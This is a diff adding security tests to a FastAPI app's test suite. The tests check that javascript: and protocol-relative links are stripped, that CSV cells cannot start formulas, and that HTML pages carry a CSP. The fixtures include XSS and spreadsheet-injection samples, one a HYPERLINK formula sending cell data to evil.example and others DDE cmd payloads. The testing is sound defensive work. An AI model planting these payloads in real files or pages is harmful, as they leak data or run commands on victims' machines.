@@ -2,17 +2,23 @@
 
 from __future__ import annotations
 
+import csv
+import io
+import json
+import re
 from collections.abc import Iterator
 from datetime import timedelta
 
 import pytest
 from fastapi.testclient import TestClient
 
-from tests.factories import T0
+from tests.factories import T0, VALID, make_item
 from tests.support import auth
 from v2mom.app.factory import create_app
+from v2mom.mapping.plan import load_plan
 from v2mom.settings import Settings
 from v2mom.store.database import Database
+from v2mom.store.remap import remap
 
 
 @pytest.fixture
@@ -149,3 +155,93 @@ def test_item_explains_inheritance(client: TestClient, seeded: Database) -> None
     assert document["resolution"]["values"] == {"customer-first": 1.0}
     assert any("jira:ONB-1" in line for line in document["explanation"])
     assert client.get("/api/items/jira/NOPE-1", headers=auth(token)).status_code == 404
+
+
+def test_item_links_are_http_or_https_only(client: TestClient, seeded: Database) -> None:
+    """A tracker's ``javascript:`` URL is dropped when the item is read in, and one stored before
+    links were checked is served as null: the dashboard renders these as links."""
+    fresh = make_item("16", key="ONB-7", points=1.0, url="javascript:alert(document.cookie)")
+    assert fresh.url is None
+    legacy = make_item("17", key="ONB-8", points=1.0).model_copy(update={"url": "JavaScript:alert(1)"})
+    relative = make_item("18", key="ONB-9", points=1.0).model_copy(update={"url": "//evil.example/x"})
+    kept = make_item("19", key="ONB-10", points=1.0, url="https://example.atlassian.net/browse/ONB-10")
+    seeded.items.upsert([fresh, legacy, relative, kept])
+    remap(seeded)
+    token = seeded.tokens.create("viewer", "pm")
+    flags = client.get("/api/reports/flags", params={"kind": "untagged", "limit": 50}, headers=auth(token))
+    urls = {item["key"]: item["url"] for item in flags.json()["items"]}
+    assert urls["ONB-7"] is None
+    assert urls["ONB-8"] is None
+    assert urls["ONB-9"] is None
+    assert urls["ONB-10"] == "https://example.atlassian.net/browse/ONB-10"
+    for key in ("ONB-7", "ONB-8", "ONB-9"):
+        document = client.get(f"/api/items/jira/{key}", headers=auth(token)).json()
+        assert document["item"]["url"] is None
+    assert "javascript" not in flags.text.lower()
+
+
+HOSTILE_NAMES = {
+    "Customer-first thinking": '=HYPERLINK("https://evil.example/?"&A1,"Details")',
+    "Reliability": "+cmd|' /C calc'!A0",
+    "Launch self-serve onboarding": "-2+3+cmd|' /C calc'!A0",
+    "SLO program": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+@pytest.mark.parametrize("lead", ["", "\t", "\r"])
+def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers(
+    client: TestClient, seeded: Database, lead: str
+) -> None:
+    """Plan names are anyone's text: a cell a spreadsheet would run as a formula is quoted with a
+    leading "'" (OWASP), a tab or carriage return before it too; a negative effort stays a number."""
+    plan = VALID
+    for name, hostile in HOSTILE_NAMES.items():
+        plan = plan.replace(f"name: {name}\n", f"name: {json.dumps(lead + hostile)}\n")
+    seeded.plans.save(load_plan(plan), actor="test")
+    seeded.items.upsert([make_item("20", key="ONB-20", labels=("value:reliability",), points=-50.0)])
+    remap(seeded)
+    token = seeded.tokens.create("viewer", "pm")
+    body = client.get("/api/reports/effort-by-value.csv", headers=auth(token)).text
+    rows = list(csv.reader(io.StringIO(body, newline="")))  # a cell may hold a carriage return
+    names = {cell for row in rows[1:] for cell in (row[2], row[4]) if cell}
+    assert names - {"Tagged with the value directly"} == {
+        "'" + lead + hostile for hostile in HOSTILE_NAMES.values()
+    }
+    reliability = next(row for row in rows if row[:2] == ["value", "reliability"])
+    assert float(reliability[5]) < 0
+    assert reliability[5].startswith("-")  # a plain negative number, not "'-..."
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row[:5])
+
+
+@pytest.mark.parametrize("path", ["/docs", "/redoc", "/docs/oauth2-redirect"])
+def test_there_is_no_api_docs_page_to_load_assets_from_a_cdn(client: TestClient, path: str) -> None:
+    answer = client.get(path)
+    assert answer.status_code == 404
+    assert "cdn" not in answer.text
+
+
+def test_the_openapi_document_describes_the_api(client: TestClient) -> None:
+    document = client.get("/openapi.json").json()
+    assert document["info"]["title"] == "v2mom-sync"
+    assert "/api/reports/effort-by-value" in document["paths"]
+
+
+def test_every_html_page_carries_the_csp_and_loads_nothing_off_site(
+    client: TestClient, seeded: Database
+) -> None:
+    """Whatever serves HTML (the dashboard, and any page a framework adds) runs under the CSP and
+    takes its scripts and styles from the app itself."""
+    token = seeded.tokens.create("viewer", "pm")
+    paths = [
+        route.path
+        for route in client.app.routes
+        if "GET" in (getattr(route, "methods", None) or ()) and "{" not in route.path
+    ]
+    pages = 0
+    for path in paths:
+        answer = client.get(path, headers=auth(token))
+        if answer.headers.get("content-type", "").startswith("text/html"):
+            pages += 1
+            assert "default-src 'self'" in answer.headers.get("content-security-policy", ""), path
+            assert not re.search(r"""(?:src|href)\s*=\s*["']?(?:https?:)?//""", answer.text), path
+    assert pages >= 1  # the dashboard
